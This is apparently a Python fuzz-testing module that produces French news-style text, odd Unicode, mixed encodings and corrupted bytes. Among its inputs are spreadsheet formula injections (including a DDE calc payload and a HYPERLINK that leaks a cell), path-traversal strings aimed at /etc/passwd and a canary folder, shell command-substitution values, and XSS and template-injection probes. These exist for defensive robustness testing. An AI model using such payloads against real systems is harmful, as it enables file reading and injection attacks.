"""Texts that no editor would print, and ways to damage bytes."""

import gzip
import lzma
from collections.abc import Callable
from random import Random

import zstandard

SENTENCES = (
    "La gendarmerie maritime a secouru quarante exilés au large de la digue.",
    "Le procureur antiterroriste ouvre une enquête après l'attaque au couteau.",
    "Deux tonnes de résine de cannabis ont été saisies au péage par les douaniers.",
    "Les pompiers volontaires luttent contre l'incendie qui menace le village.",
    "« L'élu a été menacé devant sa mairie », dit le préfet : l'œuvre d'un inconnu.",
    "Lire aussi : la préfecture évacue un campement",
    "Publié le 14 avril 2025 à 10h32",
)

# What would be markup in a page, were it not escaped: nobody else writes this name.
MARKUP = "<x-hostile onload=alert(1)>"

FORMULAS = (
    '=HYPERLINK("http://x.invalid/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1",
    "\r=1", "＝1＋1", '"=1"', " =1", "-1.5", "+33 1 23 45 67 89",
)  # fmt: skip

# A reader of any of these as a path would leave the folder of the case.
PATHS = (
    "../canary/secret.txt", "../../canary/secret.txt", "/etc/passwd", "..", ".", "~", "",
    "../canary/new.txt\0.jsonl", "a\nb", "CON", "file:///etc/passwd", "%2e%2e%2fcanary",
    "$(touch ../canary/new.txt)", "a\x1b[2Jb\x07", "\u202etxt.exe", "|touch ../canary/new.txt",
)  # fmt: skip

_EMOJI = "🔥🚓👮🏽‍♀️🇫🇷⚖️🆘"
_BIDI = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
_ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f"
_CONTROL = "".join(map(chr, (*range(1, 32), *range(0x7F, 0xA0), 0x2028, 0x2029)))
_ODD = "ﬁœÆİıßǅ\u0301\u0327\ufffd\ufffe\U000e0041\U0010ffff𝔸Ａ①½"

ENCODINGS = ("utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "utf-16-le", "utf-32", "utf-7")


def article(draw: Random) -> str:
    """Some paragraphs of French, as an article has them."""
    return draw.choice(("\n", "\n\n", "\r\n\r\n")).join(
        " ".join(draw.choices(SENTENCES, k=draw.randint(1, 4))) for _ in range(draw.randint(1, 6))
    )


def _of(characters: str) -> Callable[[Random], str]:
    return lambda draw: "".join(draw.choices(characters, k=draw.randint(1, 2_000)))


def _sprinkled(characters: str) -> Callable[[Random], str]:
    def sprinkle(draw: Random) -> str:
        return "".join(
            letter + (draw.choice(characters) if draw.random() < 0.05 else "")
            for letter in article(draw)
        )

    return sprinkle


def _any_unicode(draw: Random) -> str:
    codes = [draw.randrange(0x110000) for _ in range(draw.randint(1, 300))]
    return "".join(chr(code) for code in codes if not 0xD800 <= code < 0xE000)


ABSURD: tuple[Callable[[Random], str], ...] = (
    article,
    _of(_EMOJI), _of(_BIDI), _of(_ZERO_WIDTH), _of(_CONTROL), _of(_ODD), _of(" \t\n\r\x0b\x0c"),
    _sprinkled(_EMOJI), _sprinkled(_BIDI), _sprinkled(_ZERO_WIDTH), _sprinkled("\x1b\x07\x9b\0"),
    _sprinkled("\n"), _sprinkled(_ODD),
    _any_unicode,
    lambda draw: article(draw) * draw.randint(50, 400),
    lambda draw: "\n".join(draw.choices("aeiou", k=draw.randint(1_000, 20_000))),
    lambda draw: "é" * draw.randint(1_000, 300_000),
    lambda draw: draw.choice(("publie ", "a", "avec afp et ", "\u0301", "l'")) * 399,
    lambda draw: f"{article(draw)} {MARKUP} {{{{7*7}}}} ${{7*7}} {{% raw %}} javascript:alert(1)",
    lambda draw: draw.choice(FORMULAS) + article(draw),
    lambda draw: draw.choice(PATHS),
    lambda draw: "",
)  # fmt: skip


def text(draw: Random) -> str:
    """A text, in half of the cases one that makes sense."""
    return draw.choice(ABSURD)(draw) if draw.random() < 0.5 else article(draw)


def encode(draw: Random, content: str) -> bytes:
    """The text in some encoding, or in two."""
    if draw.random() < 0.7:
        return content.encode("utf-8", "replace")
    first, second = draw.choices(ENCODINGS, k=2)
    cut = draw.randint(0, len(content)) if draw.random() < 0.5 else len(content)
    return content[:cut].encode(first, "replace") + content[cut:].encode(second, "replace")


def damage(draw: Random, data: bytes, *, most: int = 20) -> bytes:
    """The bytes after one kind of accident, at most so many times."""
    found = bytearray(data)
    for _ in range(draw.choice((1, 1, 2, draw.randint(1, most)))):
        place = draw.randint(0, len(found))
        stop = place + draw.randint(1, 40)
        match draw.randrange(7):
            case 0 if found:
                found[place % len(found)] ^= 1 << draw.randrange(8)
            case 1:
                del found[place:]
            case 2:
                del found[place:stop]
            case 3:
                found[place:place] = draw.randbytes(draw.randint(1, 40))
            case 4:
                found[place:stop] = found[: stop - place]
            case 5:
                found[place:place] = b"\0" * draw.randint(1, 9)
            case _:
                found[place:place] = found[place:stop] * draw.randint(1, 30)
    return bytes(found)


PACK: dict[str, Callable[[bytes], bytes]] = {
    ".gz": lambda data: gzip.compress(data, 1, mtime=0),
    ".xz": lambda data: lzma.compress(data, preset=0),
    ".zst": zstandard.ZstdCompressor().compress,
}
